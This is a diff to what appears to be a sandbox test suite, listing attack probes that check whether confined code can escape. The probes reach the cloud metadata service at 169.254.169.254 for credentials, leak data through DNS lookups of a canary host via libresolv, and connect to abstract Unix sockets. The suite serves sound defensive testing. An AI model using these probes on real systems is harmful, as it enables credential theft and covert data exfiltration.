@@ -133,13 +133,16 @@ print(descriptor, call("connect", descriptor, struct.pack("=H", 2) + struct.pack
         "network-metadata",
         "The cloud's metadata service hands out the machine's credentials.",
         "s = attempt(socket.create_connection, ('169.254.169.254', 80), 1)\nif s: won()",
-        says,
+        unrecorded("socket AF_INET SOCK_STREAM"), ("call socket",),
     ),
     Attack(
         "network-dns",
         "A name's lookup carries data out.",
-        "found = attempt(socket.getaddrinfo, 'canary.example.org', 80)\nif found: won(found)",
-        says,
+        "attempt(socket.getaddrinfo, 'canary.example.org', 80)\nanswer = ctypes.create_string_buffer(512)\n"
+        "for name in ('res_query', '__res_query'):\n"
+        " resolve = getattr(ctypes.CDLL('libresolv.so.2'), name, None)\n"
+        " if resolve: print(resolve(b'canary.example.org', 1, 1, answer, 512))",
+        unrecorded("socket AF_INET SOCK_DGRAM"), ("call socket",),
     ),
     Attack(
         "network-dns-by-hand",
@@ -206,6 +209,7 @@ for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
         attempt(a.connect, name)
 """,
         lambda ground, _: ground.heard("abstract") or ground.heard("abstract-datagram"),
+        unproved="the kernel itself connects a connected stream to nothing else",
     ),
     Attack(
         "network-runner-channel",
@@ -217,6 +221,7 @@ for action in (lambda: s.connect("\\0fumehood-canary-@pid@"), lambda: s.bind("\\
     attempt(action)
 """,
         lambda ground, _: ground.heard("abstract") or ground.heard("abstract-datagram"),
+        unproved="the kernel itself connects a connected stream to nothing else",
     ),
     Attack(
         "network-pair-of-other-family",
